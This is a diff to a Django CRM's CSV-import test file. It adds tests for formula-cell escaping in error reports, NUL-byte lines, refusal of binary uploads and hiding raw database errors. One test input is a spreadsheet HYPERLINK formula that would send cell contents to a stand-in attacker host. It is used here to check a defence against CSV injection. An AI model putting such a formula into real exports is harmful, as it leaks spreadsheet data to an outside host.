@@ -7,6 +7,7 @@ from django.core.files.base import ContentFile
 from aicmo_site.errors import ConflictError, DomainError
 from crm.choices import FieldSource, ImportPolicy, RunStatus, SuppressionKind
 from crm.imports import import_run_create, import_run_execute, import_run_start
+from crm.imports.run import UNEXPECTED_FAILURE
 from crm.imports.validating import RowValidator, erasure_hash
 from crm.models import Company, Contact, ImportRun, Suppression
 from crm.tests.factories import ContactFactory, SuppressionFactory, TagFactory
@@ -314,7 +315,7 @@ def test_a_file_that_breaks_while_being_read_ahead_fails_the_run_with_the_chunks
 
     monkeypatch.setattr(RowValidator, "validate", break_on_c)
     run = import_run_execute(run.pk)
-    assert run.status == RunStatus.FAILED and "disk went away" in run.error
+    assert run.status == RunStatus.FAILED and run.error == UNEXPECTED_FAILURE
     assert sorted(Contact.objects.values_list("email", flat=True)) == ["a@example.com", "b@example.com"]
     assert run.processed_rows == 2
 
@@ -326,3 +327,44 @@ def test_custom_fields_a_person_typed_as_a_whole_are_kept_and_their_provenance_t
     contact = Contact.objects.get()
     assert contact.custom_fields == {"plan": "typed"}
     assert contact.field_sources == {"custom_fields": FieldSource.MANUAL, "first_name": FieldSource.IMPORT}
+
+
+def test_the_error_report_quotes_cells_that_start_like_a_formula():
+    run = run_import('email,first_name\n=HYPERLINK("http://evil.example/?x="&A1),@SUM(A1)\n')
+    [problem] = report_rows(run)
+    assert problem["value"] == '\'=hyperlink("http://evil.example/?x="&a1)'
+    assert (problem["email"], problem["first_name"]) == ('\'=HYPERLINK("http://evil.example/?x="&A1)', "'@SUM(A1)")
+
+
+def test_a_line_with_a_nul_byte_is_reported_and_the_other_lines_are_imported():
+    run = run_import(b"email,first_name\nana@example.com,Ana\nbo@example.com,B\x00o\ncy@example.com,Cy\n")
+    assert (run.status, run.created_count, run.failed_count) == (RunStatus.COMPLETED, 2, 1)
+    assert sorted(Contact.objects.values_list("email", flat=True)) == ["ana@example.com", "cy@example.com"]
+    [problem] = report_rows(run)
+    assert problem["line"] == "3" and "NUL character" in problem["reason"]
+    assert (problem["email"], problem["first_name"]) == ("bo@example.com", "Bo")
+
+
+@pytest.mark.parametrize("content", [
+    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00;",
+    b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
+    "email,first_name\nana@example.com,Ana\n".encode("utf-16"),
+    b"em\x00ail,first_name\nana@example.com,Ana\n",
+], ids=["gif", "png", "utf-16", "nul-in-header"])
+def test_a_binary_file_is_refused_before_a_run_exists(content):
+    with pytest.raises(DomainError) as refused:
+        import_run_create(upload=upload(content))
+    assert refused.value.code == "not_csv"
+    assert not ImportRun.objects.exists()
+
+
+def test_an_unexpected_failure_is_reported_without_the_raw_error(monkeypatch):
+    run = import_run_create(upload=upload("email\na@example.com\n"))
+
+    def database_failure(self, record):
+        raise ValueError('invalid byte sequence for encoding "UTF8": 0x00 COPY crm_import_staging')
+
+    monkeypatch.setattr(RowValidator, "validate", database_failure)
+    run = import_run_execute(run.pk)
+    assert run.status == RunStatus.FAILED
+    assert "unexpected error" in run.error and "crm_import_staging" not in run.error
